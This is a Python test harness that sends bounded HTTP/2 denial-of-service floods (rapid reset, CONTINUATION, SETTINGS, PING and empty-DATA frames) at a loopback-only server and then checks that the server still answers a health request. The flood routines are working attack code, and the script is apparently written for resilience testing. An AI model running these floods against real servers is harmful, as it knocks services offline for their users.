#!/usr/bin/env python3
"""One bounded HTTP/2 flood against a loopback h2c (prior knowledge) server (H8).

Usage: h2_flood.py HOST PORT MODE COUNT

MODE is one attack class from RFC 9113 §10.5 and the h2 advisories:
  rapid-reset   HEADERS then RST_STREAM on a new stream, COUNT times (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then COUNT CONTINUATION frames
                (RUSTSEC-2024-0332)
  settings      COUNT SETTINGS frames
  ping          COUNT PING frames
  empty-data    one POST stream, then COUNT empty DATA frames (RUSTSEC-2026-0258)

The flood is written as fast as the socket takes it, with a reader thread that
counts what the server sends back, so a server that stops reading cannot block us
forever: writing stops at the first error or after a 20 s cap. Then a fresh
connection asks GET /healthz, to see that the server still serves others.

Prints one JSON object: frames sent, what came back (GOAWAY error code, frame
counts), whether the server closed the connection, and the liveness answer.
Loopback only: the script refuses any other address.
"""

import ipaddress
import json
import socket
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WRITE_CAP_SECS = 20.0


def request_headers(host, method="GET", path="/healthz"):
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", host),
        (":path", path),
    ]


def read_frames(sock):
    """Yields every frame the server sends, parsed, until it closes the connection.
    The reader of the flood and the probe after it both read this way."""
    buf = b""
    while True:
        chunk = sock.recv(65536)
        if not chunk:
            return
        buf += chunk
        # A frame is a 9-byte header then its payload; a chunk may end mid-frame.
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9 : 9 + length]))
            buf = buf[9 + length :]
            yield frame


class Reader(threading.Thread):
    """Counts the frames the server sends until it closes the connection."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.counts = {}
        self.goaway = None
        self.closed = False
        self.statuses = []

    def run(self):
        try:
            for frame in read_frames(self.sock):
                name = type(frame).__name__
                self.counts[name] = self.counts.get(name, 0) + 1
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
        except OSError:
            pass
        self.closed = True


def flood(host, port, mode, count):
    sock = socket.create_connection((host, port), timeout=10)
    sock.settimeout(None)
    reader = Reader(sock)
    reader.start()
    encoder = Encoder()
    sent = 0
    write_error = None
    start = time.monotonic()

    def send(frames):
        sock.sendall(b"".join(f.serialize() for f in frames))

    try:
        sock.sendall(PREFACE)
        send([SettingsFrame(0)])
        batch = []
        if mode == "continuation":
            block = encoder.encode(request_headers("foobar.com"))
            send([HeadersFrame(1, data=block, flags=["END_STREAM"])])
            # Each CONTINUATION carries a fresh literal header, so the header list
            # grows without bound unless the server caps it.
            for i in range(count):
                piece = encoder.encode([(f"x-flood-{i}", "a" * 64)])
                batch.append(ContinuationFrame(1, data=piece))
                sent += 1
                if len(batch) == 256:
                    send(batch)
                    batch = []
                if time.monotonic() - start > WRITE_CAP_SECS:
                    break
        else:
            stream = 1
            if mode == "empty-data":
                block = encoder.encode(
                    request_headers("foobar.com", "POST", "/api/v1/users")
                )
                send([HeadersFrame(1, data=block, flags=["END_HEADERS"])])
            for i in range(count):
                if mode == "rapid-reset":
                    block = encoder.encode(request_headers("foobar.com"))
                    batch.append(
                        HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
                    )
                    batch.append(RstStreamFrame(stream, error_code=8))  # CANCEL
                    stream += 2
                elif mode == "settings":
                    batch.append(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}))
                elif mode == "ping":
                    batch.append(PingFrame(0, opaque_data=i.to_bytes(8, "big")))
                elif mode == "empty-data":
                    batch.append(DataFrame(1, data=b""))
                else:
                    raise SystemExit(f"unknown mode {mode}")
                sent += 1
                if len(batch) >= 256:
                    send(batch)
                    batch = []
                if time.monotonic() - start > WRITE_CAP_SECS:
                    break
        if batch:
            send(batch)
    except OSError as e:
        write_error = str(e)
    # Give the server a moment to answer (GOAWAY) and close, bounded.
    reader.join(timeout=5)
    # Whether the server closed on its own, before our shutdown below ends it anyway.
    closed_by_server = reader.closed
    try:
        sock.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
    sock.close()
    reader.join(timeout=2)
    return {
        "mode": mode,
        "requested": count,
        "sent": sent,
        "write_error": write_error,
        "goaway": reader.goaway,
        "closed_by_server": closed_by_server,
        "received": reader.counts,
    }


def liveness(host, port):
    """One plain h2c GET /healthz on a fresh connection: the :status, or None."""
    sock = socket.create_connection((host, port), timeout=10)
    encoder = Encoder()
    from hpack import Decoder

    decoder = Decoder()
    sock.sendall(
        PREFACE
        + SettingsFrame(0).serialize()
        + HeadersFrame(
            1,
            data=encoder.encode(request_headers("foobar.com")),
            flags=["END_HEADERS", "END_STREAM"],
        ).serialize()
    )
    deadline = time.monotonic() + 10
    for frame in read_frames(sock):
        if isinstance(frame, HeadersFrame) and frame.stream_id == 1:
            sock.close()
            return dict(decoder.decode(frame.data)).get(":status")
        if time.monotonic() >= deadline:
            break
    sock.close()
    return None


def main():
    host, port, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit("h2_flood.py: loopback addresses only")
    result = flood(host, port, mode, count)
    result["liveness"] = liveness(host, port)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
